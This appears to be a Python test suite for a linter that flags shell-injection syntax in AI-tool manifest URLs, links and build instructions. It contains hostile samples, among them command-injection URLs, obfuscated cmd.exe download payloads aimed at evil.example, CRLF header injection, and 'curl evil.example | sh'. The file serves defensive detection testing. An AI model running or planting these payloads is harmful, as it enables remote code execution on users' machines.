"""Advice about URLs that a shell would run or expand, and about build instructions.

The hostile URLs are quoted from registrations of the field (`tests/corpora/wild/hostile.json`, by chain and number).
"""

from advice_build import Advice, alarm, caution, note
from build import ALICE, ENDPOINT, JUNK_HASH, ZERO, m, requirement

SUITE = Advice("Advice about commands", "Shell syntax in endpoint, metadataURI and links; build instructions.")


def runs(pointer="/endpoint", **options):
    return alarm("lib-sec-command-url", pointer, **options)


def characters(pointer="/endpoint", **options):
    return caution("lib-sec-shell-characters", pointer, **options)


def add(case_id, comment, endpoint, *items, **options):
    SUITE.add(f"command-url-{case_id}", "2-endpoint-https 5-build-instructions-untrusted", comment, m(endpoint=endpoint), *items, **options)


H = "https://tools.example.com"
DOWNLOAD = ("https://tools.example.com/v2/status?seed=1&cmd=/ccurl.exe%PROGRAMFILES:~10,1%-fsSLo%PROGRAMFILES:~10,1%%USERPROFILE%/Downloads/x.txt"
            "%PROGRAMFILES:~10,1%https://evil.example/x.txt&tail=1")
CARETS = ("https://tools.example.com/v2/status?seed=1&c^m^d=/v:o^n/cc^u^r^l.e^x^e!P^R^O^G^R^A^M^F^I^L^E^S:~10,1!-f^s^S^L^o&tail=1")
SCRIPT = "https://tools.example.com/v2/status#x|echo.$p=$HOME+'/Downloads/x.txt';$w=[^S^y^s^t^e^m.^A^c^t^i^v^a^t^o^r]::^C^r^e^a^t^e"

add("calc", "A quote is closed, another program called, the rest commented out.", f"{H}/status#';calc;#", runs(found="\"';calc;#\""))
add("cmd-variable", "From the field (8453:515): variables of cmd.exe in place of spaces.", DOWNLOAD, runs())
add("cmd-carets", "From the field (8453:517): the same, with carets between the letters.", CARETS, runs())
add("powershell", "From the field: a pipe into another shell, behind the fragment's sign.", SCRIPT, runs())
for name, rest, comment in (
        ("substitution", "/$(calc)", "The output of a command."), ("process", "/a?x=<(calc)", "The same as a file."),
        ("backticks", "/a?x=`calc`", "The same in backticks."), ("double-quote", '/a";calc', "A double quote, closed."),
        ("quote-pipe", "/a'|calc", "A quote, then a pipe."), ("pipe-separator", "/a;x|sh", "A separator and a pipe."),
        ("separator-variable", "/a;wget${IFS}evil.example", "A separator, and a variable in place of a space."),
        ("variable", "/%USERPROFILE%/x", "A variable of cmd.exe."), ("variable-cut", "/%comspec:~0,1%", "A part of one."),
        ("delayed", "/!comspec:~0,1!", "The same, expanded late."), ("cmd", "/?a=1&cmd=/c+calc;x", "cmd.exe takes = for a space."),
        ("encoded", "/status?x=%27%3Bcalc%3B%23", "Percent-encoded, as whoever decodes it will see it."),
        ("encoded-substitution", "/a?x=%24%28calc%29", "The same."), ("encoded-option", "/a?x=%22%20--output%20/tmp/x", "A quote that is closed, and an option."),
        ("encoded-variable", "/a?x=%25USERPROFILE%25", "A percent sign, encoded."),
        ("encoded-line", "/x%0acalc", "A line break in a path, encoded."), ("encoded-line-upper", "/x%0D", "Another one."),
        ("encoded-lines", "/%0d%0aHost:x", "Two, and a header."), ("encoded-header", "/a?x=1%0d%0aSet-Cookie:%20a=b", "A header behind them, in a query."),
        ("encoded-backticks", "/%60id%60", "Backticks in a path, encoded.")):
    add(name, comment, H + rest, runs())
for name, rest, comment in (
        ("quote", "/it's", "A quote."), ("matrix", "/a;v=1/b", "Parameters of a path."), ("odata", "/P?$filter=a%20eq%201&$top=5", "Parameters that begin with a dollar sign."),
        ("odata-quotes", "/P?$filter=name%20eq%20'x'&$top=5", "The same with quotes."), ("pipe", "/fonts?family=A|B", "A pipe."), ("caret", "/a^b", "A caret."),
        ("template", "/${id}", "A template that was never filled in."), ("angle", "/<id>", "The same in angle brackets."), ("backtick", "/a`b", "One backtick."),
        ("variable-posix", "/$HOME", "A variable."), ("program", "/?cmd=/cancel", "A command of the tool's own that begins as a switch does.")):
    add(f"marks-{name}", comment, H + rest, characters())
for name, rest, comment in (
        ("query", "?a=1&b=2", "Parameters."), ("query-hash", "/a?x=1&y=2&&z=3#top", "Parameters and a fragment."), ("braces", "/c/{address}/mint", "A template, as in the field."),
        ("encoded", "/caf%C3%A9%20%D0%9F%D0%B0?x=%ED%AB%CD", "Percent-encoded bytes, some of which look like variables."),
        ("json", "/?q=%7B%22a%22%3A%22b%3Bc%22%7D", "JSON, encoded."), ("search", "/?q=%22foo%22%20-bar", "A search that leaves a word out."),
        ("sql", "/?q=a%3D'x'%3B".replace("'", "%27"), "A statement that ends there."), ("parentheses", "/Products(1)/Name", "Parentheses."), ("bang", "/a!b/c!", "Exclamation marks."),
        ("markdown", "/?q=%60code%60", "Backticks, encoded."), ("backtick-one", "/it%60s", "One of them in a path."),
        ("text", "/?text=a%0D%0Ab%0Ac", "Lines of a text, encoded."), ("text-colon", "/?text=To%3A%0D%0ALunch%3A%20noon", "Lines with colons, which are not headers."), ("percent", "/?q=50%25%20and%2020%25", "Percentages, encoded."), ("wild", "/a*b~c,d+e@f:g=h", "Other marks of URLs.")):
    add(f"plain-{name}", comment, H + rest)
add("line-found", "What is shown of it.", f"{H}/x%0acalc", runs(found='"%0acalc"'))
add("invalid", "An endpoint that is not a URL is looked at all the same.", "x'; calc #", runs(), manifest="invalid")
add("no-text", "One that is not a string is not.", 1, manifest="invalid")

KIND = note("1-kind-unknown", "/access/requirements/0/kind")
LINK = "/access/requirements/0/links/docs"
SUITE.add("command-link", "5-build-instructions-untrusted", "A link.", m(access={"logic": "AND", "requirements": [requirement(links={"docs": f"{H}/$(calc)"})]}), runs(LINK), KIND)
SUITE.add("command-link-plain", "5-build-instructions-untrusted", "A plain link.", m(access={"logic": "AND", "requirements": [requirement(links={"docs": f"{H}/a?b=1&c=2"})]}), KIND)


def record(uri):
    return {"config": {"creator": ALICE, "metadataURI": uri, "manifestHash": JUNK_HASH, "accessPredicate": ZERO}}


SUITE.add("command-uri", "5-build-instructions-untrusted", "The record's URI, without a manifest.", None, runs(None, found="\"';calc;#.json\""),
    facts=record(f"{H}/.well-known/ai-tool/a';calc;#.json"))
SUITE.add("command-uri-quote", "5-build-instructions-untrusted", "The same with a character that needs quotes.", None, characters(None), facts=record(f"{H}/it's"))
SUITE.add("command-uri-plain", "5-build-instructions-untrusted", "A plain one.", None, facts=record(f"{H}/.well-known/ai-tool/a.json"))


def build(**changes):
    return {"tier": "self-attested", "execution": "standard", "reproducibleBuild": {"sourceCodeURI": "https://github.com/o/r/tree/1", **changes}}


SUITE.add("build-instructions", "5-build-instructions-untrusted", "A command line of the author's choice.", m(verifiability=build(buildInstructions="curl evil.example | sh")),
    note("5-build-instructions-untrusted", "/verifiability/reproducibleBuild/buildInstructions", found='"curl evil.example | sh"'))
SUITE.add("build-without", "5-build-instructions-untrusted", "No instructions.", m(verifiability=build()))
SUITE.add("build-not-text", "5-build-instructions-untrusted", "Instructions that are not text.", m(verifiability=build(buildInstructions=1)), manifest="invalid")
SUITE.add("build-source", "5-build-instructions-untrusted", "The source's URL goes into commands too.",
    m(verifiability=build(sourceCodeURI="https://github.com/o/r;calc|sh")), runs("/verifiability/reproducibleBuild/sourceCodeURI"))
